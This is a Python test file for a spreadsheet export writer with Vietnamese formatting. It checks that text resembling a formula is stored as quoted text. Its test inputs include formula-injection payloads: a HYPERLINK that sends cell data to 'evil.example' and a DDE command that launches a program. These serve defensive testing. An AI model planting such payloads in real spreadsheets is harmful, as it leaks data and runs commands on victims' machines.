"""The exports' XLSX writer: text stays text (never a formula), numbers, dates and percentages are
typed cells with Vietnamese formats, sheet names are ones Excel accepts."""

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from common.xlsx import Percent, add_sheet, new_workbook, sheet_title, workbook_bytes, write_cell


def _read(wb):
    return load_workbook(io.BytesIO(workbook_bytes(wb)))


def test_text_that_looks_like_a_formula_stays_text():
    wb = new_workbook()
    add_sheet(wb, "Kiến nghị", ["Nội dung"], [['=HYPERLINK("http://x","bấm")'], ["+1"], ["-2"], ["@SUM(A1)"]])
    cells = [row[0] for row in _read(wb).active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ['=HYPERLINK("http://x","bấm")', "+1", "-2", "@SUM(A1)"]
    assert {c.data_type for c in cells} == {"s"}


def test_numbers_dates_and_percentages_are_typed_cells_with_vietnamese_formats():
    wb = new_workbook()
    row = [7, dt.date(2026, 3, 20), dt.datetime(2026, 3, 20, 9, 30), Percent(66.7), Percent(None), None, "văn bản"]
    add_sheet(wb, "Số liệu", list("ABCDEFG"), [row], caption="Tỉnh Hòa Bình – Năm 2026")
    sheet = _read(wb).active
    assert sheet["A1"].value == "Tỉnh Hòa Bình – Năm 2026" and sheet["A1"].font.bold
    assert [c.value for c in sheet[2]] == list("ABCDEFG") and sheet["A2"].font.bold
    number, day, moment, rate, empty_rate, empty, text = sheet[3]
    assert number.value == 7 and number.data_type == "n"
    assert day.value == dt.datetime(2026, 3, 20) and day.number_format == "dd/mm/yyyy"
    assert moment.value == dt.datetime(2026, 3, 20, 9, 30) and moment.number_format == "dd/mm/yyyy hh:mm"
    assert rate.value == 0.667 and rate.number_format == "0.0%"
    assert empty_rate.value is None and empty.value is None
    assert text.value == "văn bản"
    assert sheet.freeze_panes == "A3"


def test_sheet_names_are_ones_excel_accepts_and_never_twice_the_same():
    assert sheet_title("Cấp huyện (đến 30/6/2025)") == "Cấp huyện (đến 30-6-2025)"
    assert sheet_title("a:b*c?d[e]f\\g") == "a-b-c-d-e-f-g"
    assert sheet_title("") == "Sheet" and len(sheet_title("x" * 50)) == 31
    wb = new_workbook()
    for _ in range(3):
        add_sheet(wb, "Cấp huyện (đến 30/6/2025)", ["A"], [[1]])
    assert _read(wb).sheetnames == [
        "Cấp huyện (đến 30-6-2025)",
        "Cấp huyện (đến 30-6-2025)-2",
        "Cấp huyện (đến 30-6-2025)-3",
    ]


def test_control_characters_do_not_break_the_file():
    wb = new_workbook()
    add_sheet(wb, "x", ["A"], [["a\x00b\x07c\u202e"]])
    assert _read(wb).active["A2"].value.startswith("a")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_stays_text(text):
    wb = new_workbook()
    add_sheet(wb, "Kiến nghị", ["Nội dung"], [[text]], caption=text)
    content = workbook_bytes(wb)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    cells = load_workbook(io.BytesIO(content)).active
    for row in (1, 3):  # the caption and the row
        cell = cells.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_the_openpyxl_writer_keeps_numbers_dates_and_percents_typed():
    wb = Workbook()
    ws = wb.create_sheet("x")
    write_cell(ws, 1, 1, 42)
    write_cell(ws, 1, 2, dt.date(2026, 3, 20))
    write_cell(ws, 1, 3, Percent(50.0))
    write_cell(ws, 1, 4, "Đề nghị")
    buffer = io.BytesIO()
    wb.save(buffer)
    sheet = load_workbook(buffer)["x"]
    assert sheet["A1"].value == 42
    assert sheet["B1"].value == dt.datetime(2026, 3, 20) and sheet["B1"].number_format == "dd/mm/yyyy"
    assert sheet["C1"].value == 0.5
    assert sheet["D1"].value == "Đề nghị" and not sheet["D1"].quotePrefix


def test_characters_a_worksheet_cannot_hold_are_dropped_not_an_error():
    wb = new_workbook()
    add_sheet(wb, "x", ["A", "B"], [["Dòng 1\x0bDòng 2\x00\x01", "x" * 40_000]])
    sheet = _read(wb)["x"]
    assert sheet["A2"].value == "Dòng 1\nDòng 2"
    assert len(sheet["B2"].value) == 32_767


def test_data_rows_read_back_cell_for_cell_with_their_types_and_formats():
    """The data rows are written as XML by ``common.xlsx`` (not XlsxWriter's cell calls): every
    type reads back as ``write_value`` writes it, gaps stay gaps, text is escaped."""
    rows = [
        [1, "a & b < c > d", dt.date(2026, 3, 20), None, Percent(12.5), True, 2.5, ""],
        [2, "_x0041_ stays literal", dt.datetime(2026, 3, 20, 9, 30, 15), dt.date(1900, 1, 15), None, False, -0.125],
        [3, "  spaces kept  ", dt.date(1900, 3, 1), dt.date(1900, 2, 28), Percent(None), None, 10**12, "=1+1"],
        [4, "Dòng 1\r\nDòng 2\x0b3", None, None, None, None, None, "tiếng Việt"],
        [],
    ]
    wb = new_workbook()
    add_sheet(wb, "Danh sách", list("ABCDEFGH"), rows)
    content = workbook_bytes(wb)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    # Excel reads "_xHHHH_" as a character: a literal one is escaped as XlsxWriter escapes it
    # (openpyxl does not unescape inline text, Excel and LibreOffice do).
    assert "<t>_x005F_x0041_ stays literal</t>" in xml and "<t>a &amp; b &lt; c &gt; d</t>" in xml
    assert '<t xml:space="preserve">  spaces kept  </t>' in xml and "<f>" not in xml
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.max_row == 5 and sheet.max_column == 8
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values == [
        [1, "a & b < c > d", dt.datetime(2026, 3, 20), None, 0.125, True, 2.5, None],
        [
            2,
            "_x005F_x0041_ stays literal",
            dt.datetime(2026, 3, 20, 9, 30, 15),
            dt.datetime(1900, 1, 15),
            None,
            False,
            -0.125,
            None,
        ],
        [3, "  spaces kept  ", dt.datetime(1900, 3, 1), dt.datetime(1900, 2, 28), None, None, 10**12, "=1+1"],
        [4, "Dòng 1\nDòng 2\n3", None, None, None, None, None, "tiếng Việt"],
    ]
    assert sheet["C2"].number_format == "dd/mm/yyyy" and sheet["C3"].number_format == "dd/mm/yyyy hh:mm"
    assert sheet["E2"].number_format == "0.0%" and sheet["H4"].data_type == "s" and sheet["H4"].quotePrefix
    assert not sheet["B2"].quotePrefix and sheet["A2"].data_type == "n"


def test_every_sheet_of_a_workbook_gets_its_own_rows():
    wb = new_workbook()
    add_sheet(wb, "Một", ["A"], [[1], [2]], caption="Tiêu đề")
    add_sheet(wb, "Hai", ["A", "B"], [])
    add_sheet(wb, "Ba", ["A", "B"], [["x", dt.date(2026, 1, 1)]])
    book = _read(wb)
    assert [[c.value for c in row] for row in book["Một"].iter_rows()] == [["Tiêu đề"], ["A"], [1], [2]]
    assert [[c.value for c in row] for row in book["Hai"].iter_rows()] == [["A", "B"]]
    assert [[c.value for c in row] for row in book["Ba"].iter_rows()] == [["A", "B"], ["x", dt.datetime(2026, 1, 1)]]
    assert book["Một"].freeze_panes == "A3" and book["Ba"].freeze_panes == "A2"


def test_a_number_a_cell_cannot_hold_is_refused():
    wb = new_workbook()
    with pytest.raises(ValueError):
        add_sheet(wb, "x", ["A"], [[float("nan")]])


def test_a_repeated_text_is_the_same_cell_on_every_row_formula_like_or_not():
    """Short texts a list repeats (units, states) are turned into XML once per workbook sheet:
    every row still gets its own cell, with the quote prefix where the text looks like a formula."""
    rows = [["Sở Xây dựng", "=1+1", " lề ", ""] for _ in range(3)] + [["Sở Xây dựng & Giao thông", "=1+1", None, "x"]]
    wb = new_workbook()
    add_sheet(wb, "Danh sách", list("ABCD"), rows)
    sheet = _read(wb).active
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values == [["Sở Xây dựng", "=1+1", " lề ", None]] * 3 + [["Sở Xây dựng & Giao thông", "=1+1", None, "x"]]
    assert all(sheet[f"B{n}"].quotePrefix and sheet[f"B{n}"].data_type == "s" for n in range(2, 6))
    assert not any(sheet[f"A{n}"].quotePrefix for n in range(2, 6))
